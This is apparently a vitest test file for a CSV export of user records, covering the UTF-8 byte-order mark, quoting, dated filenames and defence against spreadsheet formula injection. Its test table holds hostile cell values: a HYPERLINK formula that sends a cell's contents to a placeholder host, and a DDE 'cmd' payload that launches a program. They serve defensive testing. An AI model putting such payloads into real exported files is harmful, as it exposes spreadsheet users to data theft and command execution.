// Catalogue: I8.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { PeopleTable_userFragment } from '@socle/schema/documents';
import { datedName } from '#lib/lists/index.ts';
import { toCsv } from './people.csv.ts';

const person = (more: Partial<PeopleTable_userFragment> = {}): PeopleTable_userFragment => ({
  id: '1',
  pseudo: 'nova',
  email: 'nova@example.org',
  emailVerified: true,
  role: 'member',
  status: 'ACTIVE',
  createdAt: '2026-11-21T09:00:00.000Z',
  lastSeenAt: null,
  ...more,
});

/** The file as it lies on the disk. */
async function fileOf(...people: PeopleTable_userFragment[]): Promise<string> {
  const bytes = await (await toCsv(people)).arrayBuffer();
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
}

const cells = (text: string) => Papa.parse<string[]>(text.replace('\u{feff}', ''), { newline: '\r\n' }).data;

describe('the file of people', () => {
  it('has a line of names, a line for each person, and nothing else', async () => {
    const text = await fileOf(person(), person({ lastSeenAt: '2026-11-21T10:00:00.000Z', emailVerified: false }));
    expect(text).toBe(
      [
        '\u{feff}pseudo,e-mail,verified,role,status,created,last seen',
        'nova,nova@example.org,true,member,ACTIVE,2026-11-21T09:00:00.000Z,',
        'nova,nova@example.org,false,member,ACTIVE,2026-11-21T09:00:00.000Z,2026-11-21T10:00:00.000Z',
        '',
      ].join('\r\n'),
    );
  });

  it('begins with the mark by which spreadsheet programs know UTF-8', async () => {
    const bytes = new Uint8Array(await (await toCsv([person({ pseudo: 'éloïse' })])).arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('quotes commas, quotes and line ends, so that they come back as they were', async () => {
    const odd = 'a,"b"\r\nc\n d ; é 🐝';
    const [, line] = cells(await fileOf(person({ pseudo: odd })));
    expect(line?.[0]).toBe(odd);
  });

  it.each([
    ['=', '=HYPERLINK("http://x.invalid?"&A1,"open")'],
    ['+', '+1+1'],
    ['-', '-2+3+cmd|" /C calc"!A0'],
    ['@', '@SUM(1+1)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['a line feed', '\n=1+1'],
    ['a formula over several lines', '=1\n+1'],
    ['a formula behind spaces', '  =1+1'],
    ['a formula in full width', '＝1+1'],
  ])('neutralises what begins with %s, and loses nothing of it', async (_, hostile) => {
    for (const field of ['pseudo', 'email', 'role'] as const) {
      const lines = cells(await fileOf(person({ [field]: hostile })));
      expect(lines).toHaveLength(3);
      const values = lines[1] ?? [];
      expect(values).toContain(`'${hostile}`);
      expect(values.filter((value) => /^\s*[=+\-@＝]/.test(value))).toEqual([]);
    }
  });

  it('leaves alone what is no formula', async () => {
    const plain = ['a-b', 'x=y', 'nova+tag@example.org', "o'neil", '_-_', '3'];
    for (const pseudo of plain) expect(cells(await fileOf(person({ pseudo })))[1]?.[0]).toBe(pseudo);
  });

  it('is named after the day', () => {
    expect(datedName('people', 'csv', new Date(2026, 0, 5, 23, 59))).toBe('people-2026-01-05.csv');
  });
});
